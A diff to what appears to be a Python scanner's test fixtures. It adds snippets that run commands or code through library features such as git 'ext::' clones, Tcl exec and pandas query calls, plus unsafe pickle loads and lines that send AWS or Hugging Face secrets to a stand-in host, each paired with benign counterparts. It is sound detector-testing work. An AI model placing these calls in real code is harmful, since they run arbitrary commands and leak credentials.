@@ -63,6 +63,69 @@ def dangerous_code() -> dict[str, tuple[str, str, str]]:
     }  # fmt: skip
 
 
+def calls_of_libraries() -> list[str]:
+    """Python sources that run programs or code, or send secrets, through what libraries offer."""
+    return [
+        "import pydoc\npydoc.pipepager('text', 'true')",
+        "from torch.utils.collect_env import run\nrun('true')",
+        "from numpy.testing import runstring\nrunstring('x = 1', {})",
+        "import numpy as np\nnp.ctypeslib.load_library('k', '.')",
+        "import tkinter\ntkinter.Tcl().eval('exec true')",
+        "import tkinter\nclass W:\n    def __init__(self): tkinter.Tk().tk.eval('exec true')",
+        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('exec', 'true')",
+        "from distutils.core import run_setup\nrun_setup('helper.py')",
+        "import git\ngit.Repo.clone_from('ext::sh -c true', 'x')",
+        "import git\ngit.Repo.clone_from(url, 'x', multi_options=['-c core.fsmonitor=true'])",
+        "import rpy2.robjects as ro\nro.r('x')",
+        "from nltk.internals import java\njava(['X'])",
+        "import _xxsubinterpreters as si\nsi.run_string(si.create(), 'x = 1')",
+        "import _testcapi\n_testcapi.run_in_subinterp('x = 1')",
+        "import cppyy\ncppyy.cppdef('int a;')",
+        "import triton.runtime.build as b\nb._build('k', 'x.c', '.', [], [], [])",
+        "from django.utils.module_loading import import_string\nimport_string('os.system')('true')",
+        "from unittest import mock\nmock._importer('os.path').os.system('true')",
+        "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"true\")', engine='python')",
+        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)",
+        "from llvmlite import binding as llvm\nllvm.load_library_permanently('./k.bin')",
+        "import cupy\ncupy.RawModule(path='./k.cubin')",
+        "from deepspeed.ops.op_builder import OpBuilder\nclass B(OpBuilder):\n    NAME = 'k'\nB('k').load()",
+        "import pyximport\npyximport.install()",
+        "from kernels import get_kernel\nk = get_kernel('someone/activation')",
+        "import keras\nkeras.config.enable_unsafe_deserialization()",
+        "import mlflow\nmlflow.pyfunc.load_model('models:/x/1')",
+        "from multiprocessing.connection import Client\nClient(('x.example', 9)).recv()",
+        "import asyncio.subprocess as asp\nasp.create_subprocess_exec('true')",
+        "from asyncio.subprocess import create_subprocess_shell as c\nc('true')",
+        "import numpy as np\nnp.load('x.npy', None, True)",
+        "import numpy as np\nnp.load('x.npy', **{'allow_pickle': True})",
+        "import numpy as np\nYES = True\nnp.load('x.npy', allow_pickle=YES)",
+        "import numpy as np\nnp.load('x.npy', allow_pickle=1)",
+        "import keras\nkeras.models.load_model('x.keras', None, True, False)",
+        "import pandas as pd, os\npd.read_csv('https://x.example/?t=' + os.getenv('AWS_SECRET_ACCESS_KEY', ''))",
+        "import fetch, os\nfetch.read(f\"https://x.example/{os.environ['HF_TOKEN']}/x\")",
+        "from huggingface_hub import HfApi\nHfApi().upload_folder(folder_path='x', repo_id='x/y')",
+    ]
+
+
+def plain_calls_of_libraries() -> list[str]:
+    """The same libraries as in calls_of_libraries, as honest code uses them."""
+    return [
+        "import numpy as np\nnp.load('x.npy', 'r', False)",
+        "import numpy as np\nnp.load('x.npy', None)",
+        "import numpy as np\nnp.load('x.npy', *given)",
+        "import keras\nkeras.models.load_model('x.keras', None, True)",
+        "import pandas as pd\npd.DataFrame({'a': [1]}).query('a > @threshold and b == 2')",
+        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('tk', 'scaling', 2.0)\nroot.tk.call('source', 'theme.tcl')",
+        "def f(self, x):\n    self.eval()\n    return self.model.eval()(x)",
+        "import cupy\ncupy.RawModule(code='extern C')",
+        "from torch.utils.collect_env import get_pretty_env_info\nget_pretty_env_info()",
+        "import os, requests\ndef f(): return requests.get(f\"http://{os.environ['MASTER_ADDR']}:{os.environ['PORT']}\")",
+        "import os\nclone(f\"https://user:{os.environ['HF_TOKEN']}@huggingface.co/a/b\")",
+        "import os\nc = Client(base_url=os.getenv('OPENAI_API_KEY', 'https://x.example'))",
+        "from deepspeed.ops.op_builder import FusedAdamBuilder\nFusedAdamBuilder().load()",
+    ]
+
+
 def hidden_code() -> list[str]:
     """Python sources that do something dangerous in ways that a reader, or a list of names, misses."""
     return [
